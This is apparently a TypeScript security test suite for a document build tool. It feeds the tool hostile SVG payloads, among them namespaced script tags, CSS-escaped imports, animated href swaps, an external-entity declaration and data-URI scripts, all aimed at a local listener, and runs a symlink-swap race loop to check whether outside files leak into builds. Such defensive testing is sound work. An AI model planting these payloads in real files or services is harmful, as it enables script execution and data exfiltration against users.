/**
 * Issue 30, points 3 and 6: SVG tricks that ran scripts or reached the network
 * during a build (a loopback listener counts every request), and an image
 * swapped for a link to a file outside between its check and its copy.
 */
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { PNG } from 'pngjs';
import { exitOf, GOOD, killGroup, lastLine, runZine, type AuditCase, type Outcome } from './harness.ts';

/** A listener on 127.0.0.1 that records each request's path; closed by `close`. */
async function listener(): Promise<{ port: number; heard: string[]; close(): void }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.end('');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: (server.address() as AddressInfo).port, heard, close: () => server.close() };
}

const SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" viewBox="0 0 200 100">';

/** The SVG tricks of issue 30, each calling the listener at `url`. */
const TRICKS: [string, (url: string) => string, string?][] = [
  ['<s:script> with a namespace prefix', (url) => `<s:script>fetch('${url}/script?'+encodeURIComponent(location.href));new Image().src='${url}/img'</s:script>`],
  ['CSS escapes @\\69mport and u\\72l(', (url) => `<style>@\\69mport '${url}/import.css'; rect { fill: u\\72l(${url}/fill.svg#p) }</style>`],
  ['<set attributeName="href" to="http://…">', (url) => `<image width="50" height="50"><set attributeName="href" to="${url}/set.png"/></image><a><set attributeName="href" to="${url}/a"/><text y="20">x</text></a>`],
  ['<s:script>while(true){}</s:script>', () => '<s:script>while(true){}</s:script>'],
];

/** More ways an SVG could act or reach out, beyond the issue's: each must be refused or be harmless. */
const MORE: [string, (url: string) => string, string?][] = [
  ['onload handler', (url) => `<rect width="5" height="5" onload="fetch('${url}/onload')"/><animate onbegin="fetch('${url}/onbegin')" attributeName="x" dur="1s"/>`],
  ['<image href> to the network', (url) => `<image href="${url}/image.png" width="10" height="10"/><image xlink:href="${url}/xlink.png" width="10" height="10"/>`],
  ['<use href> to the network', (url) => `<use href="${url}/use.svg#x"/>`],
  ['<feImage> to the network', (url) => `<filter id="f"><feImage href="${url}/feimage.png"/></filter><rect width="5" height="5" filter="url(#f)"/>`],
  ['plain @import and style="…url()"', (url) => `<style>@import url(${url}/plain.css);</style><rect width="5" height="5" style="fill:url(${url}/style.svg#p)"/>`],
  ['<foreignObject> with HTML <img>', (url) => `<foreignObject width="50" height="50"><img xmlns="http://www.w3.org/1999/xhtml" src="${url}/fo.png"/></foreignObject>`],
  ['<animate attributeName="xlink:href">', (url) => `<a><animate attributeName="xlink:href" values="${url}/animate" dur="1s"/><text y="20">x</text></a>`],
  ['data: SVG with a script inside <image>', (url) => `<image width="10" height="10" href="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${url}/data')</script></svg>`).toString('base64')}"/>`],
  ['external entity', () => '<text y="20">&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "URL/entity">]>'],
  ['<?xml-stylesheet?> to the network', () => '', '<?xml-stylesheet href="URL/pi.css" type="text/css"?>'],
];

export const imageCases: AuditCase[] = [
  ...[...TRICKS, ...MORE].map(
    ([name, body, prologue = '']): AuditCase => ({
      point: 3,
      name: `SVG: ${name}`,
      async run({ repo, dir, tmp }): Promise<Outcome> {
        const net = await listener();
        try {
          const url = `http://127.0.0.1:${net.port}`;
          await writeFile(join(dir, 'trick.svg'), `${prologue.replace('URL', url)}${SVG_OPEN}${body(url)}<rect x="10" y="10" width="180" height="80" stroke="black" stroke-width="0.2" fill="none"/></svg>`);
          await writeFile(join(dir, 'e.md'), GOOD.replace('Some text', '![A drawing](trick.svg)\n\nSome text'));
          const ran = await runZine(repo, ['build', 'e.md', '--out', 'out', '--formats', 'reading'], { cwd: dir, tmp, capMs: 120_000 });
          const held = net.heard.length === 0 && ran.code !== 3 && !ran.timedOut && ran.seconds < 30;
          const heard = net.heard.length ? ` [listener heard ${net.heard.length}: ${net.heard.slice(0, 2).join(' ').slice(0, 120)}]` : '';
          return { held, code: exitOf(ran), seconds: ran.seconds, message: lastLine(ran) + heard };
        } finally {
          net.close();
        }
      },
    }),
  ),
  {
    point: 6,
    name: 'image swapped with a link outside in a loop, 25 builds',
    async run({ repo, dir, tmp }) {
      const png = (width: number, height: number) => {
        const image = new PNG({ width, height });
        image.data.fill(120);
        return PNG.sync.write(image);
      };
      const home = join(dir, 'project');
      await mkdir(join(dir, 'outside'), { recursive: true });
      await mkdir(home);
      await writeFile(join(dir, 'outside', 'secret.png'), png(41, 31));
      await writeFile(join(home, 'inside.png'), png(40, 30));
      await writeFile(join(home, 'img.png'), png(40, 30));
      await writeFile(join(home, 'e.md'), GOOD.replace('Some text', '![A picture](img.png)\n\nSome text'));
      const swap = spawn('sh', ['-c', 'while :; do ln -sfn ../outside/secret.png a.tmp && mv -T a.tmp img.png; cp inside.png b.tmp && mv -T b.tmp img.png; done'], {
        cwd: home,
        detached: true,
        stdio: 'ignore',
      });
      let published = 0;
      let builds = 0;
      let seconds = 0;
      const codes = new Map<string, number>();
      let message = '';
      const where: string[] = [];
      try {
        for (let i = 0; i < 25; i++) {
          const ran = await runZine(repo, ['build', 'e.md', '--out', `out${i}`, '--formats', 'web'], { cwd: home, tmp, capMs: 120_000 });
          builds++;
          seconds = Math.max(seconds, ran.seconds);
          codes.set(exitOf(ran), (codes.get(exitOf(ran)) ?? 0) + 1);
          if (ran.code !== 0) message = lastLine(ran);
          const out = join(home, `out${i}`);
          const pngs = existsSync(out) ? (await readdir(out, { recursive: true })).filter((path) => path.endsWith('.png') && !path.includes('thumbnails')) : [];
          const outside = pngs.filter((path) => PNG.sync.read(readFileSync(join(out, path))).width === 41);
          if (outside.length) {
            published++;
            where.push(`out${i}/${outside.join(',')} (exit ${exitOf(ran)})`);
          }
        }
      } finally {
        killGroup(swap.pid as number, 'SIGKILL');
      }
      const tally = [...codes].map(([code, n]) => `${n}×${code}`).join(' ');
      return { held: published === 0, code: tally, seconds, message: `${published} of ${builds} builds published the outside file${where.length ? ` (${where.join('; ')})` : ''}${message ? `; a refusal: ${message}` : ''}` };
    },
  },
];
